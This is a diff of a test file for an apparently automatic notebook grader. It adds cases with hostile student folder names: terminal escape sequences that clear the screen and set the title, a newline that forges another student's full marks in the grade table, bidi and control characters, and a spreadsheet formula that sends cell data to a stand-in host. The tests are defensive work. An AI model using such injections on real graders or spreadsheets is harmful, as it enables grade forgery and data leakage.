@@ -88,6 +88,16 @@ def _write_json(path, data, ensure_ascii=True):
     path.write_text(json.dumps(data, ensure_ascii=ensure_ascii), encoding="utf-8")
 
 
+def _with_extra_cell(class_dir, student_id, source):
+    """A student with the reference answers and one more code cell (not an answer) holding ``source``."""
+    folder = student_with(class_dir, student_id)
+    data = _notebook_json(folder)
+    data["cells"].insert(1, {"cell_type": "code", "execution_count": None, "id": "extra", "metadata": {},
+                             "outputs": [], "source": source})
+    _write_json(folder / NOTEBOOK, data)
+    return student_id
+
+
 def _nested(kind, depth):
     """JSON text of ``depth`` nested lists (``kind="["``) or objects (``"{"``)."""
     return "[" * depth + "]" * depth if kind == "[" else '{"a":' * depth + "0" + "}" * depth
@@ -207,6 +217,13 @@ def notebook_nobody_may_read(class_dir):
     return "mode_000"
 
 
+@case("file type", "graded")
+def student_folder_nobody_may_read(class_dir):
+    """a student folder of mode 000 (as an ordinary user the grader cannot list it: missing, and says why)"""
+    student_with(class_dir, "locked_student").chmod(0)
+    return "locked_student"
+
+
 @case("file type", "skipped", "not a student folder")
 def stray_file_at_the_top(class_dir):
     """a file grades.csv at the top of the submissions folder"""
@@ -246,73 +263,39 @@ def hidden_student_folder(class_dir):
 
 
 # ------------------------------------------------------------------------------------------ names
-@case("name", "full")
-def name_of_250_bytes(class_dir):
-    """a folder name of 250 bytes (a file name made from it plus a suffix would pass NAME_MAX)"""
-    student_with(class_dir, "L" * 250)
-    return "L" * 250
+NAMES = [  # (case, student id, story, expect, answers)
+    ("name_of_250_bytes", "L" * 250,
+     "a folder name of 250 bytes (a file name made from it plus a suffix would pass NAME_MAX)", "full", "reference"),
+    ("two_long_names_that_share_200_characters", "S" * 200 + "-one",
+     "two long names that differ only at the end: their file names must not collide (this one hands in the "
+     "stubs, the other the reference answers)", "graded", STUB),
+    ("the_other_long_name", "S" * 200 + "-two",
+     "the second of the two long names (a collision would mix the grades up)", "full", "reference"),
+    ("multibyte_name_of_254_bytes", "é" * 127,
+     "127 two-byte characters: every one is escaped in a file name, which then has to be cut", "full", "reference"),
+    ("escape_sequences_in_the_name", "esc\x1b[2J\x1b[1;1H\x1b]0;owned\x07",
+     "a name that clears the instructor's screen, moves the cursor and sets the window title", "full", "reference"),
+    ("newline_that_forges_a_row", "forger\nzz_victim                 12 ∕ 12  graded",  # "/" cannot be in a name
+     "a name whose second line looks like another student's full marks in the grade table", "graded", STUB),
+    ("bytes_that_are_not_utf8", os.fsdecode(b"latin\xe9-\xff"),
+     "a folder name with bytes that are not UTF-8 (lone surrogates once decoded)", "full", "reference"),
+    ("control_and_bidi_characters", "ctl\t\r\x7f\u202edesrever\u202c\u200b",
+     "tab, carriage return, DEL, a right-to-left override and a zero-width space in the name", "full", "reference"),
+    ("spreadsheet_formula_name", '=HYPERLINK("http:∕∕x.invalid∕?"&A1,"ok")',
+     "a name a spreadsheet would evaluate as a formula", "full", "reference"),
+]
 
 
-@case("name", "graded")
-def two_long_names_that_share_200_characters(class_dir):
-    """two long names that differ only at the end: their file names must not collide (this one hands in
-    the stubs, the other the reference answers)"""
-    student_with(class_dir, "S" * 200 + "-one", default=STUB)
-    return "S" * 200 + "-one"
+def _named(student_id, story, answers):
+    def write(class_dir):
+        student_with(class_dir, student_id, default=answers)
+        return student_id
+    write.__doc__ = story
+    return write
 
 
-@case("name", "full")
-def the_other_long_name(class_dir):
-    """the second of the two long names (reference answers: a collision would mix the grades up)"""
-    student_with(class_dir, "S" * 200 + "-two")
-    return "S" * 200 + "-two"
-
-
-@case("name", "full")
-def multibyte_name_of_254_bytes(class_dir):
-    """127 two-byte characters: every one is escaped in a file name, which then has to be cut"""
-    student_with(class_dir, "é" * 127)
-    return "é" * 127
-
-
-@case("name", "full")
-def escape_sequences_in_the_name(class_dir):
-    """a name that clears the instructor's screen, moves the cursor and sets the window title"""
-    name = "esc\x1b[2J\x1b[1;1H\x1b]0;owned\x07"
-    student_with(class_dir, name)
-    return name
-
-
-@case("name", "graded")
-def newline_that_forges_a_row(class_dir):
-    """a name whose second line looks like another student's full marks in the grade table (the stubs)"""
-    name = "forger\nzz_victim                 12 ∕ 12  graded"  # a division slash: "/" cannot be in a name
-    student_with(class_dir, name, default=STUB)
-    return name
-
-
-@case("name", "full")
-def bytes_that_are_not_utf8(class_dir):
-    """a folder name with bytes that are not UTF-8 (a lone surrogate once decoded)"""
-    name = os.fsdecode(b"latin\xe9-\xff")
-    student_with(class_dir, name)
-    return name
-
-
-@case("name", "full")
-def control_and_bidi_characters(class_dir):
-    """tab, carriage return, DEL, a right-to-left override and a zero-width space in the name"""
-    name = "ctl\t\r\x7f\u202edesrever\u202c\u200b"
-    student_with(class_dir, name)
-    return name
-
-
-@case("name", "full")
-def spreadsheet_formula_name(class_dir):
-    """a name a spreadsheet would evaluate as a formula"""
-    name = '=HYPERLINK("http://x.invalid/?"&A1,"ok")'.replace("/", "∕")
-    student_with(class_dir, name)
-    return name
+for _case_name, _student_id, _story, _expect, _answers in NAMES:
+    CASES.append(Hostile(_case_name, "name", _story, _named(_student_id, _story, _answers), _expect))
 
 
 @case("name", "full", "several notebooks hold lesson 01")
@@ -358,12 +341,7 @@ def answer_nested_100000_deep(class_dir):
 @case("depth", "full")
 def demonstration_cell_nested_100000_deep(class_dir):
     """a cell of its own (not an answer) defines a function whose body is nested 100,000 deep"""
-    folder = student_with(class_dir, "deep_demo")
-    data = _notebook_json(folder)
-    data["cells"].insert(1, {"cell_type": "code", "execution_count": None, "id": "deep", "metadata": {},
-                             "outputs": [], "source": "def helper():\n    return x" + ".a" * DEEP + "\n"})
-    _write_json(folder / NOTEBOOK, data)
-    return "deep_demo"
+    return _with_extra_cell(class_dir, "deep_demo", "def helper():\n    return x" + ".a" * DEEP + "\n")
 
 
 @case("depth", "graded", "deeper than 2 folders")
@@ -425,12 +403,7 @@ def sixty_notebooks(class_dir):
 @case("size", "full")
 def a_cell_of_fifteen_megabytes(class_dir):
     """a demonstration cell of 15 MB of Python with a def in it (its tree would take gigabytes)"""
-    folder = student_with(class_dir, "huge_cell")
-    data = _notebook_json(folder)
-    data["cells"].insert(1, {"cell_type": "code", "execution_count": None, "id": "huge", "metadata": {},
-                             "outputs": [], "source": "def f():\n" + "    x = 1\n" * 1_500_000})
-    _write_json(folder / NOTEBOOK, data)
-    return "huge_cell"
+    return _with_extra_cell(class_dir, "huge_cell", "def f():\n" + "    x = 1\n" * 1_500_000)
 
 
 # ------------------------------------------------------------------------------------------ encoding
@@ -474,12 +447,7 @@ def notebook_in_utf16(class_dir):
 @case("encoding", "full")
 def nul_bytes_in_a_cell(class_dir):
     """a demonstration cell with NUL bytes and a def (Python refuses to parse it)"""
-    folder = student_with(class_dir, "nul_bytes")
-    data = _notebook_json(folder)
-    data["cells"].insert(1, {"cell_type": "code", "execution_count": None, "id": "nul", "metadata": {},
-                             "outputs": [], "source": "def f():\n    return '\0\0'\n"})
-    _write_json(folder / NOTEBOOK, data)
-    return "nul_bytes"
+    return _with_extra_cell(class_dir, "nul_bytes", "def f():\n    return '\0\0'\n")
 
 
 # ------------------------------------------------------------------------------------------ types
